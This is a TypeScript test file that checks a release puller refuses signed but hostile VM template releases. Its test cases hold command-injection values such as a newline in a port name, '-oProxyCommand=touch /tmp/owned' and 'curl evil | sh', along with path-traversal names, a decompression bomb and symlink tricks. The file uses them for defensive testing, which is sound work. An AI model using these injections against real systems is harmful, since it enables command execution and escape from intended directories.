import { cp, mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TnbuildError } from '../../errors/index.ts';
import { sha256Of } from '../../release/hashing-counter.ts';
import { pullRelease, type ReleaseResult, releaseTemplate } from '../../release/index.ts';
import { openTemplateStore, type TemplateStore } from '../../templates/index.ts';
import { useFreshHome } from './helpers/fresh-home.ts';
import { makeKey, makeStoredTemplate, makeTempDir, storeEntries } from './helpers/release-fixtures.ts';
import { type StaticServer, serveFolder } from './helpers/static-server.ts';

// Releases made by hand and signed by the very key the puller trusts: the signature is good, the content is hostile.
// Each case must fail with a TNB code that says what was wrong, import nothing, and write nothing outside the store.

let root: string;
let restoreHome: (() => void) | undefined;
let publisher: { key: string; pub: string };
let release: ReleaseResult;
let server: StaticServer | undefined;
let caseCount = 0;

const IMAGE = 'node-3.0.0-x86_64.qcow2.zst';

beforeAll(async () => {
  root = await makeTempDir('tnbuild-hostile-');
  const { template } = await makeStoredTemplate(join(root, 'build-host'));
  publisher = await makeKey(root, 'publisher');
  release = await releaseTemplate({
    template,
    version: '3.0.0',
    key: publisher.key,
    outDir: join(root, 'releases'),
  });
  server = await serveFolder(join(root, 'served'));
  restoreHome = await useFreshHome(join(root, 'home'));
}, 120_000);

afterAll(async () => {
  restoreHome?.();
  await server?.close();
  await execa('rm', ['-rf', root]);
});

type Manifest = Record<string, unknown> & { template: Record<string, unknown> };

/** A copy of the genuine release, changed by `spoil`, with SHA256SUMS rewritten and signed by the trusted key. */
async function hostileRelease(
  spoil: (dir: string, manifest: Manifest) => Promise<void> | void,
): Promise<{ dir: string; url: string }> {
  const name = `case-${++caseCount}`;
  const dir = join(root, 'served', name);
  await cp(release.dir, dir, { recursive: true });
  const manifest = JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8')) as Manifest;
  await spoil(dir, manifest);
  await writeFile(join(dir, 'manifest.json'), `${JSON.stringify(manifest, null, 2)}\n`);
  await resign(dir);
  return { dir, url: `${server?.origin}${name}/` };
}

/** What a compromised signer does: list every regular file of the folder and sign the list. */
async function resign(dir: string, files?: string[]): Promise<void> {
  const names = files ?? (await readdir(dir)).filter((file) => !file.startsWith('SHA256SUMS')).sort();
  const lines = await Promise.all(
    names.map(async (file) => `${sha256Of(await readFile(join(dir, file)))}  ${file}\n`),
  );
  await writeFile(join(dir, 'SHA256SUMS'), lines.join(''));
  await rm(join(dir, 'SHA256SUMS.sig'), { force: true });
  await execa(
    'ssh-keygen',
    ['-Y', 'sign', '-f', publisher.key, '-n', 'tnbuild-release', join(dir, 'SHA256SUMS')],
    { input: '' },
  );
}

/** Pulls into a fresh store inside `<root>/pulls/N/`; asserts nothing was imported and nothing appeared beside it. */
async function refusedPull(
  source: string,
  options: { arch?: 'aarch64' | 'x86_64' } = {},
): Promise<TnbuildError> {
  const area = join(root, 'pulls', String(caseCount));
  const store: TemplateStore = openTemplateStore({
    root: join(area, 'store', 'templates'),
    vmsRoot: join(area, 'vms'),
  });
  await mkdir(store.root, { recursive: true });
  const error = await pullRelease({
    source,
    trustedKeys: publisher.pub,
    store,
    fetch: { retries: 0 },
    ...options,
  }).then(
    () => {
      throw new Error('the pull was expected to fail');
    },
    (caught: TnbuildError) => caught,
  );
  expect(await storeEntries(store)).toEqual([]);
  expect(await readdir(dirname(store.root))).toEqual(['templates']);
  expect(await readdir(area)).toEqual(['store']);
  return error;
}

const manifestCases: [string, (manifest: Manifest) => void, RegExp][] = [
  [
    'a port name with a newline (a line of the start script)',
    (m) => {
      m.template.ports = [{ name: 'ssh\ntouch /tmp/owned', guest: 22, host: 2222 }];
    },
    /template\.ports\.0\.name/,
  ],
  [
    'an ssh user that ssh would read as an option',
    (m) => {
      m.template.sshUser = '-oProxyCommand=touch /tmp/owned';
    },
    /template\.sshUser/,
  ],
  [
    'a recipe name that climbs out of the store',
    (m) => {
      m.template.recipe = '../../../escaped';
    },
    /template\.recipe/,
  ],
  [
    'a VM name that climbs out of ~/vms',
    (m) => {
      m.template.vm = { name: '../../elsewhere', firstBoot: [] };
    },
    /template\.vm\.name/,
  ],
  [
    'a port out of range',
    (m) => {
      m.template.ports = [{ name: 'ssh', guest: 22, host: 0 }];
    },
    /template\.ports\.0\.host/,
  ],
  [
    'an interface name that breaks the ifupdown stanza',
    (m) => {
      m.template.network = { address: 'fd10:1234::2', prefix: 64, interface: 'eth1\n  up reboot' };
    },
    /template\.network\.interface/,
  ],
  [
    'a release name with a path in it',
    (m) => {
      m.name = '../node';
    },
    /name/,
  ],
  [
    'a build time that is not a time (it names the clones’ base disk)',
    (m) => {
      m.template.builtAt = '../../x';
    },
    /template\.builtAt/,
  ],
  [
    'a field tnbuild never writes',
    (m) => {
      m.template.postInstall = 'curl evil | sh';
    },
    /postInstall/,
  ],
  [
    'a release that says aarch64 around an x86_64 template',
    (m) => {
      m.arch = 'aarch64';
    },
    /arch: the release says aarch64, its template x86_64/,
  ],
];

describe.each(['dir', 'url'] as const)(
  'pullRelease from a %s refuses a signed but hostile release',
  (via) => {
    const sourceOf = (copy: { dir: string; url: string }) => (via === 'dir' ? copy.dir : copy.url);

    it.each(manifestCases)('%s (TNB606)', async (_what, spoil, field) => {
      const copy = await hostileRelease((_dir, manifest) => spoil(manifest));
      const error = await refusedPull(sourceOf(copy));
      expect(error.code).toBe('TNB606');
      expect([error.message, ...(error.details ?? [])].join('\n')).toMatch(field);
    });

    it('a release of another architecture than the one asked for (TNB607)', async () => {
      const copy = await hostileRelease(() => {});
      const error = await refusedPull(sourceOf(copy), { arch: 'aarch64' });
      expect(error.code).toBe('TNB607');
      expect(error.message).toContain('is an x86_64 release of node, and aarch64 was asked for');
    });

    it('an image larger than the manifest declares: stopped at the declared size', async () => {
      const copy = await hostileRelease((_dir, manifest) => {
        (manifest.image as { size: number }).size = 1000;
      });
      const error = await refusedPull(sourceOf(copy));
      expect(error.code).toBe('TNB606');
      expect(error.message).toMatch(/more than the 1000|larger than the 1000 bytes/);
    });

    it('a decompression bomb: unpacking stops as soon as the output passes the declared qcow2 size', async () => {
      const copy = await hostileRelease(async (dir, manifest) => {
        // 256 MiB of zeros in a few KiB, declared to unpack to 1 MiB.
        await execa('sh', ['-c', `head -c 268435456 /dev/zero | zstd -q -3 -c > ${IMAGE}`], { cwd: dir });
        const image = manifest.image as { size: number; sha256: string; qcow2: { size: number } };
        const bytes = await readFile(join(dir, IMAGE));
        image.size = bytes.length;
        image.sha256 = sha256Of(bytes);
        image.qcow2.size = 1024 * 1024;
      });
      const error = await refusedPull(sourceOf(copy));
      expect(error.code).toBe('TNB606');
      expect(error.message).toContain('unpacks to more than the 1048576 bytes its manifest declares');
    });

    it('a file in SHA256SUMS that the manifest does not name', async () => {
      const copy = await hostileRelease(async (dir) => {
        await writeFile(join(dir, 'install.sh'), '#!/bin/sh\necho hi\n');
      });
      const error = await refusedPull(sourceOf(copy));
      expect(error.code).toBe('TNB606');
      expect(error.message).toContain('SHA256SUMS lists install.sh, which the manifest does not name');
    });
  },
);

describe('pullRelease from a folder reads only the folder’s own regular files', () => {
  it('a SHA256SUMS.sig that is a FIFO is refused at once, not waited on', async () => {
    const copy = await hostileRelease(() => {});
    await rm(join(copy.dir, 'SHA256SUMS.sig'));
    await execa('mkfifo', [join(copy.dir, 'SHA256SUMS.sig')]);
    const error = await refusedPull(copy.dir);
    expect(error.code).toBe('TNB606');
    expect(error.message).toContain('SHA256SUMS.sig is not a regular file');
  });

  it('a SHA256SUMS that is a symlink to a file outside the folder', async () => {
    const copy = await hostileRelease(() => {});
    const outside = join(root, 'outside-SHA256SUMS');
    await cp(join(copy.dir, 'SHA256SUMS'), outside);
    await rm(join(copy.dir, 'SHA256SUMS'));
    await symlink(outside, join(copy.dir, 'SHA256SUMS'));
    const error = await refusedPull(copy.dir);
    expect(error.code).toBe('TNB606');
    expect(error.message).toContain('SHA256SUMS is a symbolic link');
  });

  it('an image that is a symlink out of the folder, even with the right hash', async () => {
    const copy = await hostileRelease(() => {});
    const outside = join(root, `outside-${IMAGE}`);
    await cp(join(copy.dir, IMAGE), outside);
    await rm(join(copy.dir, IMAGE));
    await symlink(outside, join(copy.dir, IMAGE));
    const error = await refusedPull(copy.dir);
    expect(error.code).toBe('TNB606');
    expect(error.message).toContain(`${IMAGE} is a symbolic link`);
  });

  it('a SHA256SUMS of more than 1 MiB', async () => {
    const copy = await hostileRelease(() => {});
    const line = `${'0'.repeat(64)}  padding\n`;
    await writeFile(join(copy.dir, 'SHA256SUMS'), line.repeat(20_000));
    const error = await refusedPull(copy.dir);
    expect(error.code).toBe('TNB606');
    expect(error.message).toMatch(/SHA256SUMS is \d+ bytes, more than the 1048576 it may have/);
  });
});
